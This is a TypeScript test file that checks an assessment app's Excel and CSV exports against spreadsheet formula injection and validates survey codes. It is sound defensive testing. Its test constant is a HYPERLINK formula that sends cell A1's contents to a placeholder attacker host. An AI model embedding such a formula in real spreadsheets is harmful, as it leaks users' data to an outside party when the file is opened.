import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { FrameworkSchema } from '../../../domain/framework/schema';
import { exportFrameworkWorkbook, exportResultsWorkbook } from '../../../formats';
import { importFrameworkWorkbook } from '../../../formats/framework-import';
import { neutralizeFormula } from '../../../formats/formula-guard';
import { createSurveyTemplateCsv } from '../../../formats/survey-template';
import { hanoi2019Campaign } from '../../../seed/hanoi-2019';
import { loadSampleFramework } from '../domain/fixtures/sample-framework';

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';

async function cellsOf(bytes: Uint8Array): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes.slice().buffer);
  const texts: string[] = [];
  workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => {
    if (typeof cell.value === 'string') texts.push(cell.value);
    if (cell.value !== null && typeof cell.value === 'object' && 'formula' in cell.value) texts.push(`FORMULA:${String(cell.value.formula)}`);
  })));
  return texts;
}

describe('spreadsheet formula injection', () => {
  it('puts an apostrophe before every text that starts with = + - @, a tab or a carriage return, and leaves other text alone', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutralizeFormula(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(neutralizeFormula('Sở Tư pháp')).toBe('Sở Tư pháp');
    expect(neutralizeFormula("'quoted")).toBe("'quoted");
  });

  it('neutralises a unit name typed as a formula in the results workbook', async () => {
    const bytes = await exportResultsWorkbook({
      title_vi: '@SUM(1)',
      groups: [{ code: 'department', name_vi: 'Khối sở', rows: [{ unitCode: 'X', unitName: FORMULA, assessedCenti: 100, surveyCenti: 0, adjustmentCenti: 0, totalCenti: 100, indexPercentCenti: 100, rank: 1, bandName: undefined }] }],
      explanations: [],
    });
    const texts = await cellsOf(bytes);
    expect(texts).toContain(`'${FORMULA}`);
    expect(texts).toContain("'@SUM(1)");
    expect(texts.filter((text) => /^[=+\-@\t\r]/.test(text) || text.startsWith('FORMULA:'))).toEqual([]);
  });

  it('exports a framework whose names start with = or - neutralised, and imports the export back unchanged', async () => {
    const framework = loadSampleFramework();
    const department = framework.groups.department!;
    const area = department.areas[0]!;
    const renamed = {
      ...framework,
      groups: { ...framework.groups, department: { ...department, areas: [{ ...area, name_vi: FORMULA }, ...department.areas.slice(1)] } },
    };
    const bytes = await exportFrameworkWorkbook(renamed);
    const texts = await cellsOf(bytes);
    expect(texts).toContain(`'${FORMULA}`);
    expect(texts.filter((text) => text.startsWith('='))).toEqual([]);
    const back = await importFrameworkWorkbook(bytes);
    expect(back.ok && back.framework.groups.department!.areas[0]!.name_vi).toBe(FORMULA);
  });

  it('refuses survey codes that are not plain identifiers, naming the field in both languages', () => {
    const framework = loadSampleFramework();
    const department = framework.groups.department!;
    const survey = department.survey!;
    for (const bad of [FORMULA, 'S1,S2', 'S 1', '-S1', 'Câu1', '']) {
      const parsed = FrameworkSchema.safeParse({
        ...framework,
        groups: { ...framework.groups, department: { ...department, survey: { ...survey, questions: [{ ...survey.questions[0]!, code: bad }, ...survey.questions.slice(1)] } } },
      });
      expect(parsed.success, bad).toBe(false);
      const found = parsed.error!.issues.find((item) => item.path.join('.') === 'groups.department.survey.questions.0.code');
      expect(found, bad).toMatchObject({ params: { message_vi: expect.stringContaining('chữ số'), message_en: expect.stringContaining('digits') } });
    }
    expect(FrameworkSchema.safeParse(framework).success).toBe(true);
  });

  it('writes the CSV template with the csv library: every cell quoted, none a formula, read back as the same header', () => {
    const definition = hanoi2019Campaign({ slug: 'csv', unitsPerGroup: 1 });
    const text = createSurveyTemplateCsv(definition, 'wide');
    expect(text.startsWith('\uFEFF"respondent_id","respondent_group","unit_code","S1"')).toBe(true);
    const [header] = parse(text.slice(1)) as string[][];
    expect(header!.slice(0, 4)).toEqual(['respondent_id', 'respondent_group', 'unit_code', 'S1']);
  });
});
